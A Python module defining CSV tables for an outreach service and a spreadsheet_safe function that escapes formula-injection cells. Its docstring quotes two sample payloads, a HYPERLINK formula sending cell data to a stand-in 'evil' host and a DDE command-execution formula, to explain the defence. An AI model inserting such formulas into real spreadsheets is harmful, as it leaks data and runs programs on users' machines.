"""The CSV exchange format: file names, columns, reading and writing; and the one rule that
makes every CSV the service writes safe to open in a spreadsheet.

One place says which files exist and which columns they have, so that the importer,
the exporter and the demo generator cannot drift apart.

>>> TABLES["introductions"].columns
('introducer_id', 'introduced_id', 'introduced_on', 'relation')

Spreadsheets (formula injection)
--------------------------------
A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil/?"&A1)`` sends a neighbouring cell away; ``=cmd|' /C calc'!A0``
runs a program through DDE). Every CSV cell this service writes (the export, the unvisited
list, the audit log) goes through ``spreadsheet_safe``: a cell that would start a formula,
after any leading white space, gets a leading apostrophe, which spreadsheets take as "this
is text" and do not show. The characters are OWASP's list (``= + - @``, tab, CR) with line
feed and NUL (ASVS 1.2.10) and the full-width forms ``＝ ＋ － ＠`` that Korean and Japanese
input methods type. A cell that already starts with an apostrophe gets one more, so the
escape can be undone exactly: ``read_rows`` (the importer's reader) removes one leading
apostrophe from every value, and export → import gives back the same graph. Every cell is
also written in double quotes, so that a spreadsheet that splits on ``;`` or tabs (another
locale) cannot cut a cell in two and start a formula in its second half.

>>> spreadsheet_safe("=1+1"), spreadsheet_safe("-3"), spreadsheet_safe(" @x"), spreadsheet_safe("목련")
("'=1+1", "'-3", "' @x", '목련')
>>> spreadsheet_safe("＝1+1"), spreadsheet_safe("'quoted"), spreadsheet_safe(["a", "b"])
("'＝1+1", "''quoted", 'a;b')
>>> spreadsheet_unescape(spreadsheet_safe("'=x")) == "'=x"
True
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TextIO

#: A cell whose first character, or first character after white space, is one of these
#: is read as a formula by some spreadsheet (OWASP "CSV Injection"; ASVS 1.2.10; the
#: full-width forms that East Asian input methods produce).
FORMULA_STARTS = frozenset("=+-@\t\r\n\0＝＋－＠")
#: The spreadsheet's "this cell is text" mark; also escapes itself, so the escape is reversible.
TEXT_MARK = "'"
_MARKED = FORMULA_STARTS | {TEXT_MARK}


def spreadsheet_safe(value: Any) -> str:
    """The cell text for ``value`` that no spreadsheet runs as a formula (see the module).

    None is empty; a list is joined with ``;``; anything else is ``str(value)``.
    """
    if value is None:
        return ""
    if isinstance(value, str):
        text = value
    elif isinstance(value, (list, tuple)):
        text = ";".join(str(v) for v in value)
    else:
        text = str(value)
    if text and (text[0] in _MARKED or (text[0].isspace() and text.lstrip()[:1] in _MARKED)):
        return TEXT_MARK + text
    return text


def spreadsheet_unescape(text: str) -> str:
    """The value ``spreadsheet_safe`` was given: one leading apostrophe removed."""
    return text[1:] if text.startswith(TEXT_MARK) else text


class SafeWriter:
    """``csv.writer`` for files people open in spreadsheets: every cell quoted and passed
    through ``spreadsheet_safe``. The one way this service writes CSV."""

    def __init__(self, fh: TextIO, lineterminator: str = "\n"):
        self._writer = csv.writer(fh, quoting=csv.QUOTE_ALL, lineterminator=lineterminator)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(v) for v in values])


def writer(fh: TextIO, lineterminator: str = "\n") -> SafeWriter:
    return SafeWriter(fh, lineterminator)


@dataclass(frozen=True)
class Table:
    name: str
    columns: tuple[str, ...]
    required: tuple[str, ...]  # columns that must be present and non-empty; the rest are optional

    @property
    def filename(self) -> str:
        return f"{self.name}.csv"


# Order matters: it is the order in which files are validated and written
# (a later table refers to earlier ones).
TABLES: dict[str, Table] = {
    t.name: t
    for t in (
        Table("users", ("username", "role", "districts", "person_id", "gender"), ("username", "role")),
        Table(
            "households",
            ("id", "code", "district", "arrived_on", "status", "women_only"),
            ("id", "code", "district", "status"),
        ),
        Table(
            "people",
            ("id", "code_name", "household_id", "legal_name", "phone", "address"),
            ("id", "code_name", "household_id"),
        ),
        Table(
            "introductions",
            ("introducer_id", "introduced_id", "introduced_on", "relation"),
            ("introducer_id", "introduced_id", "relation"),
        ),
        Table(
            "visits",
            ("id", "household_id", "visitor", "visited_on", "outcome", "materials", "notes", "follow_up_on"),
            ("id", "household_id", "visitor", "visited_on", "outcome"),
        ),
    )
}

# Files a coordinator must bring; users.csv is optional (users may already exist).
REQUIRED_FILES = ("households", "people", "introductions", "visits")


def read_rows(path: Path) -> tuple[list[str], Iterator[tuple[int, dict[str, str]]]]:
    """Open a CSV file (UTF-8 with or without BOM) and return its header and its rows.

    Rows come with their line number in the file (the header is line 1), so that
    errors can say ``file:line``. Values are stripped of surrounding whitespace, then one
    leading apostrophe is removed (the spreadsheet escape of ``spreadsheet_safe``, which
    the export writes and spreadsheet programs understand): a value that really starts
    with an apostrophe is written with two.
    """
    text = path.read_bytes().decode("utf-8-sig")  # strips a BOM when there is one
    reader = csv.reader(io.StringIO(text, newline=""))
    try:
        header = [h.strip() for h in next(reader)]
    except StopIteration:
        return [], iter(())

    def rows() -> Iterator[tuple[int, dict[str, str]]]:
        for record in reader:
            line = reader.line_num
            if not any(field.strip() for field in record):
                continue  # blank line
            values = [spreadsheet_unescape(v.strip()) for v in record]
            row = dict(zip(header, values))
            if len(values) != len(header):
                row["__width__"] = str(len(values))
            yield line, row

    return header, rows()


def write_table(path: Path, table: Table, rows: Iterable[Mapping[str, object]], bom: bool = True) -> int:
    """Write rows (mappings with string values) as one CSV file; return the row count.

    With ``bom`` the file starts with a UTF-8 byte-order mark, which spreadsheet programs
    need to read Korean text as UTF-8. The file is readable by its owner only (0600) from
    its creation on (a file that existed is made so before anything is written to it);
    a symbolic link at ``path`` is refused. Cells go through ``spreadsheet_safe``.
    """
    count = 0
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NOFOLLOW | os.O_CLOEXEC, 0o600)
    try:
        os.fchmod(fd, 0o600)
        fh = open(fd, "w", encoding="utf-8-sig" if bom else "utf-8", newline="", closefd=True)
    except BaseException:
        os.close(fd)
        raise
    with fh:
        out = writer(fh)
        out.writerow(table.columns)
        for row in rows:
            out.writerow([row.get(c) for c in table.columns])
            count += 1
    return count
